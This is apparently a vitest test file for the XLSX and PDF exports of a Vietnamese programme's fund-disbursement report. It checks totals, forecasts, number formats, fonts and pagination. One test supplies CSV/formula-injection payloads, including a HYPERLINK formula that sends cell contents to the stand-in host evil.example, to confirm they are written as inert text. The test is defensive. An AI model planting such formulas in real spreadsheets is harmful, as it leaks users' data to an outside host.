import { extractText, getDocumentProxy } from 'unpdf';
import { describe, expect, it } from 'vitest';
import XLSX from 'xlsx';
import { JURISDICTIONS } from '../../shared/jurisdictions/config/index.ts';
import { placeNames } from '../../shared/jurisdictions/domain/place-names.ts';
import type { Allocation } from '../../shared/ledger/domain/allocation.ts';
import { monitoringConfig } from '../../shared/monitoring/config/monitoring.ts';
import { policyFor } from '../../shared/monitoring/domain/monitoring-policy.ts';
import { measureProgress } from '../../shared/monitoring/domain/progress.ts';
import { readBundledFile } from '../../shared/platform/bundled-file.ts';
import { UPGRADE_DEFAULT_JURISDICTION } from '../../shared/platform/tenancy.ts';
import type { DisbursementReportOutput } from '../../shared/reports/app/disbursement-report.ts';
import programme from '../../shared/reports/config/programme-projects.json' with { type: 'json' };
import { disbursementReport } from '../../shared/reports/domain/disbursement-report.ts';
import { reportPdf } from '../../shared/reports/presentation/report-pdf.ts';
import { AMOUNT_FORMAT, RATE_FORMAT, reportXlsx } from '../../shared/reports/presentation/report-xlsx.ts';
import { REPORT_FONTS } from '../../shared/reports/topology.ts';
import { looksRunnable } from '../support/spreadsheet-reader.ts';
import { anAllocation } from './support/domain-fixtures.ts';

const AS_OF = '2024-10-01';
const policy = policyFor(monitoringConfig, 2024, UPGRADE_DEFAULT_JURISDICTION);
const jurisdiction = JURISDICTIONS.find((j) => j.id === UPGRADE_DEFAULT_JURISDICTION);
if (!jurisdiction) throw new Error('no upgrade-default jurisdiction');
const names = { projects: programme.projects };
const fonts = { regular: readBundledFile(REPORT_FONTS.regular), bold: readBundledFile(REPORT_FONTS.bold) };

let seq = 0;
const alloc = (overrides: Partial<Allocation>): Allocation => {
  const a = anAllocation({ id: `a-${++seq}`, ...overrides });
  return { ...a, availableVnd: a.assignedVnd - a.reservedVnd - a.disbursedVnd };
};

/** Roads (DA1) in two communes and two lines, housing (DA5) with carried-over capital, an empty plan. */
const PLAN: Allocation[] = [
  alloc({
    component: 'DA1',
    commune: 'A Tiêng',
    assignedVnd: 1_000_000_000,
    disbursedVnd: 400_000_000,
    advancedVnd: 150_000_000,
  }),
  alloc({
    component: 'DA1',
    commune: 'A Tiêng',
    fundingLine: 'provincial',
    assignedVnd: 100_000_000,
    disbursedVnd: 10_000_000,
  }),
  alloc({ component: 'DA1', commune: 'A Nông', assignedVnd: 2_000_000_000, disbursedVnd: 0 }),
  alloc({
    component: 'DA5',
    commune: 'A Tiêng',
    capitalType: 'recurrent',
    assignedVnd: 800_000_000,
    disbursedVnd: 200_000_000,
  }),
  alloc({
    component: 'DA5',
    commune: 'A Tiêng',
    capitalType: 'recurrent',
    carriedFrom: 'a-2023',
    assignedVnd: 300_000_000,
    disbursedVnd: 300_000_000,
  }),
  alloc({ component: 'DA10', commune: 'A Nông', capitalType: 'recurrent', assignedVnd: 0, disbursedVnd: 0 }),
];
const rowsOf = (plan: Allocation[]) => measureProgress(plan, policy, 2024, AS_OF, ['allocation']);
const outputOf = (
  plan: Allocation[],
  yearEndRates: ReadonlyMap<string, number> | null,
): DisbursementReportOutput => ({
  report: disbursementReport({ fiscalYear: 2024, asOf: AS_OF, rows: rowsOf(plan), yearEndRates }),
  places: placeNames(jurisdiction, AS_OF),
  problems: [],
});

describe('the disbursement result report model', () => {
  const report = disbursementReport({
    fiscalYear: 2024,
    asOf: AS_OF,
    rows: rowsOf(PLAN),
    yearEndRates: null,
  });

  it('has one line per project × funding line × commune × capital type, projects in code order (DA10 after DA5)', () => {
    expect(report.projects.map((p) => p.component)).toEqual(['DA1', 'DA5', 'DA10']);
    expect(report.projects[0]?.lines.map((l) => [l.fundingLine, l.commune])).toEqual([
      ['central', 'A Nông'],
      ['central', 'A Tiêng'],
      ['provincial', 'A Tiêng'],
    ]);
    // The year's own and the carried-over housing capital share one line, in columns apart.
    expect(report.projects[1]?.lines).toHaveLength(1);
    expect(report.projects[1]?.lines[0]).toMatchObject({
      allocations: 2,
      planVnd: 800_000_000,
      carriedOverVnd: 300_000_000,
      assignedVnd: 1_100_000_000,
      disbursedVnd: 500_000_000,
      rate: 0.4545,
    });
  });

  it('splits disbursed into advances and payments', () => {
    const line = report.projects[0]?.lines.find(
      (l) => l.commune === 'A Tiêng' && l.fundingLine === 'central',
    );
    expect(line).toMatchObject({
      disbursedVnd: 400_000_000,
      advancedVnd: 150_000_000,
      paymentsVnd: 250_000_000,
    });
  });

  it('totals what GET /reports/progress totals at any grouping, overall and per capital type', () => {
    for (const level of ['district', 'fundingLine', 'commune'] as const) {
      const progress = measureProgress(PLAN, policy, 2024, AS_OF, [level]);
      const sum = (f: (r: (typeof progress)[number]) => number) => progress.reduce((s, r) => s + f(r), 0);
      expect(report.total).toMatchObject({
        assignedVnd: sum((r) => r.assignedVnd),
        disbursedVnd: sum((r) => r.disbursedVnd),
        advancedVnd: sum((r) => r.advancedVnd),
        allocations: sum((r) => r.allocations),
      });
    }
    expect(report.total).toMatchObject({ planVnd: 3_900_000_000, carriedOverVnd: 300_000_000, rate: 0.2167 });
    expect(report.byCapitalType.map((t) => [t.capitalType, t.figures.assignedVnd])).toEqual([
      ['investment', 3_100_000_000],
      ['recurrent', 1_100_000_000],
    ]);
  });

  it('makes each project subtotal the sum of its lines, and the lines add up to the total', () => {
    for (const p of report.projects) {
      expect(p.subtotal.disbursedVnd).toBe(p.lines.reduce((s, l) => s + l.disbursedVnd, 0));
      expect(p.subtotal.assignedVnd).toBe(p.lines.reduce((s, l) => s + l.assignedVnd, 0));
    }
    expect(report.projects.reduce((s, p) => s + p.subtotal.paymentsVnd, 0)).toBe(report.total.paymentsVnd);
  });

  it('gives no rate where nothing is assigned, and no forecast without one', () => {
    expect(report.projects[2]?.subtotal).toMatchObject({ assignedVnd: 0, rate: null, forecastVnd: null });
    expect(report.total.forecastVnd).toBeNull();
    expect(report.forecast).toBe(false);
  });

  it('forecasts each allocation at its median rate, never below what it has disbursed', () => {
    const withForecast = disbursementReport({
      fiscalYear: 2024,
      asOf: AS_OF,
      rows: rowsOf(PLAN),
      yearEndRates: new Map([
        ['a-1', 0.9],
        ['a-3', 0.5],
        ['a-4', 0.1], // below its 40% disbursed: counts what it disbursed
      ]),
    });
    const da1 = withForecast.projects[0];
    expect(da1?.lines.find((l) => l.commune === 'A Nông')?.forecastVnd).toBe(1_000_000_000);
    // a-2 has no forecast: its disbursed 10 M; a-1 at 90% of 1 billion.
    expect(da1?.subtotal.forecastVnd).toBe(900_000_000 + 10_000_000 + 1_000_000_000);
    expect(withForecast.total.forecastVnd).toBe(1_910_000_000 + 200_000_000 + 300_000_000);
  });
});

/** The cells of a sheet read by SheetJS, a reader that shares nothing with the writer. */
const sheetOf = (book: XLSX.WorkBook, name: string) => {
  const sheet = book.Sheets[name];
  if (!sheet) throw new Error(`no sheet ${name}`);
  return XLSX.utils.sheet_to_json<unknown[]>(sheet, { header: 1, raw: true, defval: null });
};

describe('the report as XLSX', () => {
  it('has the form sheet and the detail sheet, with title lines naming the jurisdiction, the period and the day', async () => {
    const book = XLSX.read(await reportXlsx(outputOf(PLAN, null), names), { type: 'buffer' });
    expect(book.SheetNames).toEqual(['Báo cáo', 'Chi tiết']);
    const rows = sheetOf(book, 'Báo cáo');
    expect(String(rows[0]?.[0])).toContain('BÁO CÁO KẾT QUẢ GIẢI NGÂN');
    expect(String(rows[1]?.[0])).toContain(placeNames(jurisdiction, AS_OF).address.vi.slice(1));
    expect(String(rows[2]?.[0])).toContain('Năm kế hoạch 2024');
    expect(String(rows[2]?.[0])).toContain('01/10/2024');
  });

  it('writes amounts as numbers formatted #,##0 and rates as percentages, with a totals row equal to the model', async () => {
    const output = outputOf(PLAN, null);
    const book = XLSX.read(await reportXlsx(output, names), { type: 'buffer', cellNF: true });
    const sheet = book.Sheets['Báo cáo'] as XLSX.WorkSheet;
    const rows = sheetOf(book, 'Báo cáo');
    const header = rows.findIndex((r) => r[0] === 'STT');
    expect(rows[header]).toContain('Đã giải ngân');
    const totalRow = rows.findIndex((r) => r[1] === 'TỔNG CỘNG');
    const at = (r: number, c: number) => sheet[XLSX.utils.encode_cell({ r, c })] as XLSX.CellObject;
    const col = (name: string) => rows[header]?.indexOf(name) ?? -1;
    expect(at(totalRow, col('Tổng kế hoạch vốn'))).toMatchObject({
      t: 'n',
      v: 4_200_000_000,
      z: AMOUNT_FORMAT,
    });
    expect(at(totalRow, col('Đã giải ngân'))).toMatchObject({ t: 'n', v: 910_000_000, z: AMOUNT_FORMAT });
    expect(at(totalRow, col('Trong đó: tạm ứng'))).toMatchObject({ v: 150_000_000 });
    expect(at(totalRow, col('Tỷ lệ giải ngân'))).toMatchObject({ t: 'n', v: 0.2167, z: RATE_FORMAT });
    const details = sheetOf(book, 'Chi tiết');
    const detailTotal = details.find((r) => r[1] === 'TỔNG CỘNG');
    expect(detailTotal).toContain(4_200_000_000);
    expect(details.filter((r) => typeof r[1] === 'string' && r[1].startsWith('a-'))).toHaveLength(
      PLAN.length,
    );
  });

  it('freezes the rows down to the header in both sheets', async () => {
    const book = XLSX.read(await reportXlsx(outputOf(PLAN, null), names), {
      type: 'buffer',
      bookFiles: true,
    });
    const files = (book as unknown as { files: Record<string, { content?: Uint8Array; _data?: unknown }> })
      .files;
    const sheetXml = (n: number) => {
      const file = files[`xl/worksheets/sheet${n}.xml`];
      return Buffer.from(file?.content ?? []).toString('utf8');
    };
    for (const n of [1, 2]) {
      // Five title lines, a blank line, the header: the pane starts on row 8.
      expect(sheetXml(n)).toMatch(/<pane [^>]*ySplit="7"[^>]*state="frozen"/);
    }
  });

  it('writes names that start like a formula as inert text: no formula, a leading quote', async () => {
    const payloads = [
      '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
      '+1+1',
      '-2',
      '@SUM(1)',
      "'quoted",
      '＝1+1',
    ];
    const plan = payloads.map((p, i) =>
      alloc({ component: p, title: payloads[(i + 1) % payloads.length], assignedVnd: 1_000_000 }),
    );
    const book = XLSX.read(await reportXlsx(outputOf(plan, null), names), {
      type: 'buffer',
      cellFormula: true,
    });
    for (const name of book.SheetNames) {
      const sheet = book.Sheets[name] as XLSX.WorkSheet;
      const cells = Object.entries(sheet)
        .filter(([k]) => !k.startsWith('!'))
        .map(([, c]) => c as XLSX.CellObject);
      expect(cells.filter((c) => c.f !== undefined)).toEqual([]);
      const texts = cells.filter((c) => c.t === 's').map((c) => String(c.v));
      expect(texts.filter(looksRunnable)).toEqual([]);
      for (const p of payloads) expect(texts).toContain(`'${p}`);
    }
    // Amounts stay numbers.
    const amounts = sheetOf(book, 'Chi tiết').flatMap((r) => r.filter((v) => v === 1_000_000));
    expect(amounts.length).toBeGreaterThanOrEqual(payloads.length);
  });
});

const pdfText = async (bytes: Buffer) => {
  const pdf = await getDocumentProxy(new Uint8Array(bytes));
  return extractText(pdf, { mergePages: false });
};

describe('the report as PDF', () => {
  it('renders Vietnamese text with DejaVu Sans embedded and no standard font', async () => {
    const bytes = await reportPdf(outputOf(PLAN, null), names, fonts);
    const { text } = await pdfText(bytes);
    const page = text[0] ?? '';
    expect(page).toContain(
      'BÁO CÁO KẾT QUẢ GIẢI NGÂN VỐN CHƯƠNG TRÌNH MỤC TIÊU QUỐC GIA GIẢM NGHÈO BỀN VỮNG',
    );
    expect(page).toContain('Hỗ trợ nhà ở cho hộ nghèo');
    expect(page).toContain('Vốn năm trước');
    const raw = bytes.toString('latin1');
    expect(raw).toContain('/FontFile2');
    expect(raw).toMatch(/\/BaseFont \/[A-Z]{6}\+DejaVuSans/);
    expect(raw).not.toContain('Helvetica');
    expect(raw).toMatch(/\/MediaBox \[0 0 841\.89 595\.28\]/);
  });

  it('shows the totals as the model computes them, in Vietnamese number format', async () => {
    const { text } = await pdfText(await reportPdf(outputOf(PLAN, null), names, fonts));
    const last = text.at(-1) ?? '';
    expect(last).toMatch(
      /TỔNG CỘNG\s+3\.900\.000\.000\s+300\.000\.000\s+4\.200\.000\.000\s+910\.000\.000\s+150\.000\.000\s+760\.000\.000\s+21,67%/,
    );
  });

  it('breaks a long table over pages, repeating the header and numbering each page', async () => {
    const plan = Array.from({ length: 90 }, (_, i) =>
      alloc({
        component: `DA${(i % 7) + 1}`,
        commune: ['A Tiêng', 'A Nông', 'Dang'][i % 3],
        fundingLine: (['central', 'provincial', 'local', 'community'] as const)[i % 4],
        assignedVnd: 1_000_000_000 + i,
      }),
    );
    const { totalPages, text } = await pdfText(await reportPdf(outputOf(plan, null), names, fonts));
    expect(totalPages).toBeGreaterThan(1);
    text.forEach((page, i) => {
      expect(page).toContain('Đã giải ngân');
      expect(page).toContain(`Trang ${i + 1}/${totalPages}`);
    });
    expect(text.at(-1)).toContain('TỔNG CỘNG');
  });
});
